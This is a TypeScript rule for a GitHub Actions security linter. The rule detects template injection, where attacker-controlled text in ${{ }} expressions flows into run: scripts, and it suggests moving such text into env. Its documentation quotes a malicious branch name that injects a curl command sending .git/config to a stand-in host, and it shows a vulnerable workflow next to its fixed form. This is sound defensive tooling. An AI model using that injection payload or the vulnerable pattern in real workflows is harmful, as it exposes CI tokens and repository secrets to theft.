import { hoistIntoEnv } from '../../server/core/edit/hoist-env.ts';
import type { Confidence, Fix, Profile, Severity } from '../../server/core/finding.ts';
import { inputsOf, type Step } from '../../server/core/model/github/step.ts';
import { type Origin, originOf } from '../../server/core/model/github/taint.ts';
import { actionName } from '../../server/core/model/github/uses.ts';
import { type Interpolation, interpolationsOf } from '../../server/core/parse/expression.ts';
import { flowingContexts } from '../../server/core/parse/expression-query.ts';
import type { ScalarNode } from '../../server/core/parse/tree.ts';
import { type Context, defineRule } from '../../server/core/rule.ts';
import { SCRIPT_INPUTS } from '../data/script-inputs.ts';

export default defineRule({
  id: 'template-injection',
  summary: 'An expression pastes text that others control into a script',
  severity: 'high',
  confidence: 'high',
  profile: 'default',
  owasp: ['CICD-SEC-4'],
  cwe: [94, 78],
  since: '0.1.0',
  fix: 'unsafe',
  equivalents: {
    zizmor: ['template-injection'],
    actionlint: ['expression'],
    poutine: ['injection'],
    'pipeline-check': ['GHA-003', 'GHA-035', 'GHA-093', 'TAINT-001', 'TAINT-002', 'TAINT-003'],
    sisakulint: ['code-injection-critical', 'code-injection-medium'],
  },
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  docs: `
    ## What it does
    Reports \`\${{ … }}\` in a \`run:\` script, or in an input that an action runs as code (\`script\` of
    \`actions/github-script\` and the like), when somebody else decides the text.

    How bad it is follows from who that is. The title of an issue, the name of a fork's branch or a commit message
    come from anyone: high. An input of a composite action that others use comes from its caller: medium. Inputs of
    reusable workflows and of actions under \`.github\`, what only people with write access decide (inputs of \`workflow_dispatch\`, names of tags and labels) and what this
    file does not show (outputs of steps, computed matrices) is reported in the \`strict\` profile only, and so is any
    other expression in a script. Fields are known with their events: the title of an issue is nothing to a workflow
    that runs on \`push\`.

    ## Why is this bad?
    GitHub replaces the expression by its value before the shell reads the script. A branch called
    \`x";curl$IFS-d@.git/config$IFS"evil.example";"\` is then no name but a command, run with the job's token and
    secrets.

    ## Example
    \`\`\`yaml bad .github/workflows/triage.yml
    on: issues
    permissions: {}
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue \${{ github.event.issue.title }}"
    \`\`\`
    Use instead:
    \`\`\`yaml good .github/workflows/triage.yml
    on: issues
    permissions: {}
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue \${TITLE}"
            env:
              TITLE: \${{ github.event.issue.title }}
    \`\`\`

    ## Fix safety
    The fix is unsafe: it moves the expression into the step's \`env\` and follows the quoting around it, but a script that
    meant to run the text as code no longer does. There is no fix in \`cmd\`, which pastes variables just as blindly, nor
    where the quoting is not certain.
  `,
  check: {
    step(ctx, step) {
      if (step.run) checkScript(ctx, step, step.run, 'the script');
      if (step.uses?.kind !== 'repository') return;
      const scripts = SCRIPT_INPUTS[actionName(step.uses)];
      if (!scripts) return;
      for (const { name, value } of inputsOf(step)) {
        if (scripts[name.text.toLowerCase()]) checkScript(ctx, step, value, `\`${name.text}\``);
      }
    },
  },
});

function checkScript(ctx: Context, step: Step, script: ScalarNode, place: string): void {
  for (const interpolation of interpolationsOf(script)) {
    if (!interpolation.expression) continue;
    const fixes = () => [fixOf(ctx, step, script, interpolation)];
    let reported = false;
    for (const context of flowingContexts(interpolation.expression)) {
      const verdict = verdictOf(originOf(context, step), isPublished(ctx, step));
      if (!verdict) continue;
      reported = true;
      const shown = context.call ? `${context.call.name}(…)` : shorten(context.path);
      ctx.report({
        span: script.map.span(context.span.start, context.span.end),
        message: `${verdict.who} the text of \`${shown}\`, which becomes part of ${place}; pass it through \`env\`.`,
        severity: verdict.severity,
        confidence: verdict.confidence,
        profile: verdict.profile,
        fixes,
      });
    }
    if (reported) continue;
    ctx.report({
      span: script.map.span(interpolation.start, interpolation.end),
      message: `This expression becomes part of ${place}; pass it through \`env\`, which a shell does not run.`,
      severity: 'low',
      profile: 'strict',
      fixes,
    });
  }
}

interface Verdict {
  readonly who: string;
  readonly severity: Severity;
  readonly confidence: Confidence;
  readonly profile: Profile;
}

/** An action that others use; the actions under `.github` are called by the repository's own workflows. */
function isPublished(ctx: Context, step: Step): boolean {
  return step.action !== undefined && !ctx.source.path.includes('.github');
}

function verdictOf(origin: Origin, published: boolean): Verdict | undefined {
  switch (origin.by) {
    case 'outsider':
      return { who: 'Anyone can choose', severity: 'high', confidence: 'high', profile: 'default' };
    case 'caller':
      return {
        who: 'The caller chooses',
        severity: 'medium',
        confidence: 'medium',
        profile: published ? 'default' : 'strict',
      };
    case 'insider':
      return { who: 'Contributors choose', severity: 'medium', confidence: 'medium', profile: 'strict' };
    case 'unknown':
      return { who: 'It is not known who chooses', severity: 'low', confidence: 'low', profile: 'strict' };
    default:
      return undefined;
  }
}

function shorten(path: string): string {
  return path.length > 60 ? `${path.slice(0, 57)}…` : path;
}

function fixOf(ctx: Context, step: Step, script: ScalarNode, interpolation: Interpolation): Fix | undefined {
  return script === step.run ? hoistIntoEnv(ctx.source, step, interpolation) : undefined;
}
